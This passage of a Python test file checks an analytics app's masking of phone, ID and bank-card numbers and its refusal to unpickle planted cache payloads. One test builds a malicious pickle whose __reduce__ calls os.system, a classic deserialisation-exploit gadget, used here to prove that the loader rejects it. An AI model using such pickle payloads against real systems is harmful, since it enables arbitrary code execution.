    assert visits[advisor[0]].str.endswith(" 138****5678").all()


def test_file_names_in_the_import_history_and_the_audit_log_mask_mobiles_for_the_manager(
    roles_like_env, with_accounts
):
    """The Data page drew the import history (every role) and the audit log (the manager too) as
    they were: a file named after the customer who called (`回访_王先生13812345678.xlsx`)."""
    from analytics.store import audit, db
    from tests.signing_in import sign_in

    named = "回访_王先生13812345678.xlsx"
    con = db.connect(roles_like_env)
    con.execute("UPDATE imports SET file_name = $f", {"f": named})
    audit.record(con, "zhangli", "cs_lead", "import", {"file": named, "kind": "callback"})
    con.close()
    at = sign_in("wangqiang", page="pages/data.py")
    shown = [str(v) for d in at.dataframe for column in d.value.columns for v in d.value[column].dropna()]
    assert [v for v in shown if "王先生138****5678" in v] and len([v for v in shown if "12345678" in v]) == 0


def test_a_broken_secrets_file_stops_the_page_without_naming_its_accounts(tmp_path, monkeypatch, capsys):
    """A secrets.toml with a faulty account told anyone who opened the page its user names (and
    roles): "Account 'zhangli' ... has the unknown role 'boss'". The page says the accounts cannot
    be used; the problems go to the server's log, where the one who runs it reads them."""
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    secrets = tmp_path / "secrets.toml"
    secrets.write_text(
        '[auth.accounts.zhangli]\nrole = "boss"\npassword_hash = "plain-text"\n', encoding="utf-8"
    )
    monkeypatch.setenv("ANALYTICS_SECRETS", str(secrets))
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=60)
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    shown = " ".join(
        e.value for kind in (at.error, at.warning, at.info, at.caption, at.markdown) for e in kind
    )
    assert "secrets.toml" in shown  # the page says what is wrong ...
    assert "zhangli" not in shown and "boss" not in shown  # ... without the accounts
    assert "zhangli" in capsys.readouterr().err  # the server's log names them


# Round 3: personal numbers in other shapes inside free text, masked for the roles without phones.
@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("回电008613812345678", "回电138****5678"),  # 0086 written without a space
        ("手机138\u200b1234\u200b5678", "手机138****5678"),  # zero-width spaces between the groups
        ("手机1\u200c3812345\u200d678", "手机138****5678"),  # and inside them
        ("电话138，1234，5678", "电话138****5678"),  # Chinese commas
        ("电话138、1234、5678", "电话138****5678"),
        ("电话138—1234—5678", "电话138****5678"),  # em dash, hyphen, minus sign
        ("电话138‐1234‐5678", "电话138****5678"),
        ("电话138−1234−5678", "电话138****5678"),
        ("电话138/1234/5678", "电话138****5678"),
        ("电话(138)1234-5678", "电话(138****5678"),
        ("电话 1 3 8 1 2 3 4 5 6 7 8", "电话 138****5678"),  # a space after every digit
        ("身份证110101199003071234", "身份证110***********1234"),  # an ID card number
        ("身份证号：11010119900307123X。", "身份证号：110***********123X。"),
        ("卡号6222 0212 3456 7890 128 退款", "卡号***************0128 退款"),  # a bank card (Luhn)
        ("固话0571-88886666找李工", "固话057*****6666找李工"),  # a landline with its area code
        ("固话(0571)88886666", "固话057*****6666"),
        # Still left alone: dates, times, amounts, VINs, order numbers that fail the checks.
        ("日期 2026.10.13 13:30，金额 1,234.50 元", "日期 2026.10.13 13:30，金额 1,234.50 元"),
        ("车架号LGB13812341234567，工单WO2013812341234", "车架号LGB13812341234567，工单WO2013812341234"),
        ("工单2024030612345678", "工单2024030612345678"),  # sixteen digits, not a card number
        ("评分 1, 3, 5, 4, 2, 3, 4, 5, 1, 2, 3", "评分 1, 3, 5, 4, 2, 3, 4, 5, 1, 2, 3"),
    ],
)
def test_personal_numbers_in_other_shapes_inside_text_are_masked(text, masked):
    assert auth.mask_text(text) == masked


def test_a_phone_in_a_name_on_a_chart_is_masked_on_screen_and_in_the_saved_image():
    """An advisor or store typed with a mobile (王工13812345678) showed it on the chart's axis, its
    hover and the PNG/SVG every role may save, while the deck's charts masked it."""
    from streamlit.testing.v1 import AppTest

    def page():
        import plotly.graph_objects as go

        from ui.charts import show

        fig = go.Figure(
            go.Bar(y=["王工13812345678", "李工"], x=[3, 4], name="西湖店 139-1234-5678", orientation="h")
        )
        fig.update_yaxes(categoryarray=["李工", "王工13812345678"])
        show(fig, "t_chart", title="t")

    at = AppTest.from_function(page, default_timeout=60).run()
    assert not at.exception, [e.message for e in at.exception]
    from tests.screen_charts import charts

    (chart,) = charts(at)
    shown = str(chart.spec) + chart.rows.to_json(force_ascii=False)
    assert "13812345678" not in shown and "1234-5678" not in shown
    assert "138****5678" in shown and "139****5678" in shown


@pytest.mark.parametrize("page", ["pages/satisfaction.py", "pages/overview.py", "pages/themes.py"])
def test_an_advisor_typed_with_a_mobile_is_masked_in_sentences_tables_and_charts_for_the_manager(
    roles_like_env, with_accounts, page
):
    """The satisfaction breakdown (its caption naming the best and worst advisor, its table, its
    chart), the overview's "why?" table and the praise board's caption drew an advisor
    `王工 13812345678` as it was for the manager, who sees no phone numbers."""
    from analytics.store import db
    from tests.screen_charts import charts
    from tests.signing_in import sign_in

    con = db.connect(roles_like_env)
    con.execute("UPDATE service_orders SET advisor = advisor || ' 13812345678'")
    db.bump_data_version(con)
    con.close()
    at = sign_in("wangqiang", page=page)
    if page == "pages/overview.py":  # open the satisfaction rate's "why?" menu, by advisor
        at.session_state["why_by_satisfaction_rate"] = "advisor"
        at.session_state["why_satisfaction_rate"] = True
        at.run()
    assert not at.exception, [e.message for e in at.exception]
    shown = [e.value for kind in (at.caption, at.markdown, at.info, at.warning) for e in kind]
    shown += [frame.value.to_json(force_ascii=False) for frame in at.dataframe]
    shown += [str(c.spec) + c.rows.to_json(force_ascii=False) for c in charts(at)]
    assert [s for s in shown if "138****5678" in s], "the advisors are on the page"
    assert [s for s in shown if "13812345678" in s] == []


def test_a_large_frame_of_lists_dicts_and_dates_is_kept_safe_column_by_column(monkeypatch):
    # The group's churn list and maintenance scores (195,000 rows each, with lists of reasons and
    # overdue items) were kept as pickles; value by value, this format took 11 s on them. They are
    # now written column by column: no value of theirs goes through the value-by-value writer, and
    # every value reads back with its type (a tuple stays a tuple, a NumPy float a NumPy float, a
    # NaN inside a tuple a NaN).
    import datetime as dt

    import numpy as np
    import pandas as pd

    from analytics.core import safe_payload
    from analytics.services import marts

    n = 30_000
    frame = pd.DataFrame(
        {
            "vin": pd.Series([f"LSV{i:014d}" if i % 7 else None for i in range(n)], dtype="str"),
            "km": pd.array([i if i % 5 else None for i in range(n)], dtype="Int64"),
            "last_visit": [
                dt.date(2026, 1, 1) + dt.timedelta(days=i % 300) if i % 3 else None for i in range(n)
            ],
            "tier": pd.Series(["高" if i % 2 else "低" for i in range(n)], dtype=object),
            "items": [
                [("engine_oil_filter", float(i), float("nan") if i % 2 else np.float64(i))] * (i % 3)
                for i in range(n)
            ],
            "reasons": [
                [{"code": "overdue", "days": i}, {"code": "unsatisfied", "score": "4"}][: i % 3]
                for i in range(n)
            ],
            "codes": [tuple(["overdue", "complaint"][: i % 3]) if i % 11 else None for i in range(n)],
        }
    )
    written: list[object] = []
    real = safe_payload._enc
    monkeypatch.setattr(safe_payload, "_enc", lambda v, b: written.append(v) or real(v, b))
    data = safe_payload.encode({"scores": frame})
    assert len(written) < 100  # the containers and labels, not 30,000 rows of values
    back = safe_payload.decode(data)["scores"]
    assert safe_payload.same(back, frame) and list(back.dtypes) == list(frame.dtypes)
    assert type(back["items"].iloc[2][1][2]) is np.float64 and type(back["items"].iloc[1][0]) is tuple
    assert np.isnan(back["items"].iloc[1][0][2]) and back["codes"].iloc[0] is None
    assert back["reasons"].iloc[2] == [{"code": "overdue", "days": 2}, {"code": "unsatisfied", "score": "4"}]
    assert back["last_visit"].iloc[0] is None and back["last_visit"].iloc[1] == dt.date(2026, 1, 2)
    changed = frame.copy()
    changed.at[5, "items"] = [("engine_oil_filter", 5.0, 6.0)]
    assert not safe_payload.same(back, changed)
    kept = marts._serialise({"scores": frame})
    assert kept.startswith(
        safe_payload.ZSTD_MAGIC
    )  # over COMPRESS_FROM bytes: compressed, still the safe format
    assert safe_payload.same(marts._deserialise(kept)["scores"], frame)


def test_a_large_payload_is_kept_compressed_and_a_pickle_is_never_read(tmp_path):
    """The month-ends computed ahead keep an 86 MB payload each at group scale: from
    ``safe_payload.COMPRESS_FROM`` bytes it is kept compressed; smaller ones stay plain; both are the safe
    format and read back to the same value. A pickle (kept by an earlier version, or planted),
    plain or compressed, in a file or in the table, is never unpickled: the result is computed again."""
    import os
    import pickle

    import pandas as pd
    import pyarrow as pa

    from analytics.core import safe_payload
    from analytics.services import marts
    from analytics.store import db

    rows = 40_000
    items = [[("oil", float(i % 97), 2.0)] for i in range(rows)]
    large = pd.DataFrame({"vin": [f"V{i:06d}" for i in range(rows)], "items": items})
    kept = marts._serialise(large)
    assert kept.startswith(safe_payload.ZSTD_MAGIC)
    size = int.from_bytes(kept[len(safe_payload.ZSTD_MAGIC) : len(safe_payload.ZSTD_MAGIC) + 8], "little")
    assert size >= safe_payload.COMPRESS_FROM and len(kept) < size / 2
    pd.testing.assert_frame_equal(marts._deserialise(kept), large)
    small = large.head(100)
    plain = marts._serialise(small)
    assert len(plain) < safe_payload.COMPRESS_FROM and safe_payload.is_safe(plain)
    pd.testing.assert_frame_equal(marts._deserialise(plain), small)
    witness = tmp_path / "ran"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {witness}",))

    planted = pickle.dumps(Exploit())
    packed = pa.Codec("zstd").compress(planted, asbytes=True)
    for data in (planted, safe_payload.ZSTD_MAGIC + len(planted).to_bytes(8, "little") + packed):
        with pytest.raises(ValueError):
            marts._deserialise(data)
    assert not witness.exists()

    con = db.connect(tmp_path / "payload.duckdb")
    try:
        call = marts.call_of(marts.folder, "large")
        version = db.data_version(con)
        assert marts.store(con, call, version, large, 1.0)
        found, value = marts.fetch(con, call, version)
        assert found
        pd.testing.assert_frame_equal(value, large)
        file = con.execute("SELECT file FROM marts").fetchone()[0]
        assert (marts.folder(con) / file).read_bytes().startswith(safe_payload.ZSTD_MAGIC)
        # A pickle in the table (a doctored backup) or in the file, checksum and all: never unpickled.
        con.execute("UPDATE marts SET payload = $p, file = NULL", {"p": planted})
        assert marts.fetch(con, call, version) == (False, None)
        path = marts.folder(con) / file
        path.write_bytes(planted)
        digest = __import__("hashlib").sha256(planted).hexdigest()
        con.execute("UPDATE marts SET payload = NULL, file = $f, sha256 = $d", {"f": file, "d": digest})
        assert marts.fetch(con, call, version) == (False, None)
        assert not witness.exists()
    finally:
        con.close()


def test_a_kept_model_is_rebuilt_by_skops_from_trusted_types_only():
    # Fitted estimators are kept through skops, which rebuilds only the types it is told to trust:
    # those of scikit-learn, SciPy's sparse matrices, NumPy and analytics. A model that holds any
    # other function is not kept, and a payload naming one (written by hand) is refused unread.
    import json
    import os
    import struct

    import numpy as np
    import skops.io
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import FunctionTransformer

    from analytics.core import safe_payload

    x = np.array([[0.0], [1.0], [2.0], [3.0]])
    model = LogisticRegression().fit(x, [0, 0, 1, 1])
    data = safe_payload.encode({"model": model})
    back = safe_payload.decode(data)["model"]
    assert type(back) is LogisticRegression
    np.testing.assert_array_equal(back.predict_proba(x), model.predict_proba(x))
    assert safe_payload.same(back, model)
    assert not safe_payload.same(back, LogisticRegression(C=0.5).fit(x, [0, 0, 1, 1]))

    dangerous = FunctionTransformer(func=os.getcwd)
    with pytest.raises(safe_payload.Unsupported, match="getcwd"):
        safe_payload.encode({"model": dangerous})
    blob = skops.io.dumps(dangerous)
    header = json.dumps({"root": {"$": "skops", "i": 0}, "blobs": [len(blob)]}).encode()
    forged = safe_payload.MAGIC + struct.pack("<Q", len(header)) + header + blob
    with pytest.raises(ValueError, match="refusing to rebuild .*getcwd"):
        safe_payload.decode(forged)


def test_a_large_vectorizer_token_lists_and_a_sparse_matrix_are_kept_column_wise():
    # A themes window at group scale holds a vectorizer of 30,000-40,000 words, the tokens of
    # 100,000 comments and their sparse vectors. skops wrote the vocabulary entry by entry
    # (2.4 s to write, 1.4 s to read), and the read-back check made the vectors dense (25 GB).
    # The vocabulary is written column-wise beside skops, the token lists as one value list, and
    # the vectors compared by their compressed rows; each reads back equal and of the same types.
    import os

    import numpy as np
    import scipy.sparse
    from sklearn.feature_extraction.text import CountVectorizer

    from analytics.core import safe_payload
    from analytics.domain.themes.discovery import _identity

    docs = [[f"词{(i * 7 + j) % 3000}", f"w{i % 500}"] for i in range(5000) for j in range(2)]
    vectorizer = CountVectorizer(analyzer=_identity).fit(docs)
    assert len(vectorizer.vocabulary_) >= safe_payload.COLUMN_FROM
    data = safe_payload.encode({"v": vectorizer, "docs": docs, "ids": tuple(range(1000))})
    header = data[len(safe_payload.MAGIC) + 8 :].split(b'"blobs"')[0]
    assert b'"a": {"vocabulary_"' in header and b'"$": "col"' in header
    back = safe_payload.decode(data)
    assert back["v"].vocabulary_ == vectorizer.vocabulary_
    assert {type(v) for v in back["v"].vocabulary_.values()} == {
        type(v) for v in vectorizer.vocabulary_.values()
    }
    assert (back["v"].transform(docs[:200]) != vectorizer.transform(docs[:200])).nnz == 0
    assert back["docs"] == docs and type(back["ids"]) is tuple and back["ids"] == tuple(range(1000))

    # A list of NumPy strings does not come back as plain strings: it is not kept.
    with pytest.raises(safe_payload.Unsupported):
        safe_payload.encode([np.str_(f"w{i}") for i in range(300)])
    # NumPy integers keep their type; a dict of them is written as two columns.
    counts = {f"w{i}": np.int64(i) for i in range(300)}
    again = safe_payload.decode(safe_payload.encode(counts))
    assert again == counts and {type(v) for v in again.values()} == {np.int64}

    # 100,000 x 40,000 would be 30 GB dense; compared without it, and a changed value is seen.
    rng = np.random.default_rng(0)
    vectors = scipy.sparse.random(100_000, 40_000, density=2e-5, format="csr", random_state=rng)
    assert safe_payload.same(safe_payload.decode(safe_payload.encode(vectors)), vectors)
    changed = vectors.copy()
    changed.data[0] += 1.0
    assert not safe_payload.same(changed, vectors)

    # The vocabulary beside skops does not let an untrusted type in.
    from sklearn.preprocessing import FunctionTransformer

    dangerous = FunctionTransformer(func=os.getcwd)
    dangerous.lookup = {f"w{i}": i for i in range(300)}
    with pytest.raises(safe_payload.Unsupported, match="getcwd"):
        safe_payload.encode(dangerous)
